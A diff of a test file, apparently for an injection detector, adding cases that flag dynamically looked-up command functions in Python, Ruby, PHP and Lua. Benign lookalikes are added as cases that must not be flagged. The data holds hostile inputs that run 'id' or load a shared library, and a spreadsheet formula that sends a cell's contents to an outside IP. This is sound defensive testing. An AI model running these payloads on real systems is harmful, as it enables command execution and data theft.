@@ -88,6 +88,11 @@ test.each([
   ['().__class__.__bases__', 'way to every class of Python'],
   [`-be \${run{/bin/id}}`, 'expansion of a mail server'],
   ['$_GET[0]', 'value of the request in PHP'],
+  ["getattr(__import__('os'), 'system')('id')", 'function looked up by its name'],
+  ["vars(os)['popen']('id')", 'function looked up by its name'],
+  ["Kernel.send(:system, 'id')", 'function looked up by its name'],
+  ["(new ReflectionFunction('system'))->invoke('id')", 'function looked up by its name'],
+  ["package.loadlib('/tmp/x.so', 'f')", 'function looked up by its name'],
   ['=WEBSERVICE("http://203.0.113.9/?"&A1)', 'formula that reaches out of its table'],
   [';$PSVersionTable', 'variable of PowerShell'],
   ['qx{id}', 'command literal of Perl'],
@@ -108,6 +113,11 @@ test.each([
   '=HYPERLINK("https://example.org","x")',
   'costs $0 or $1',
   "(system) and ('id')",
+  "pattern['exec']('a')",
+  "getattr(self, 'name')('x')",
+  "getattr(os, 'system')(cmd)",
+  "record.send(:update, 'x')",
+  'api["system"](id)',
 ])('%s tells nothing', (text) => {
   expect(tellIn(text)).toBeNull();
 });
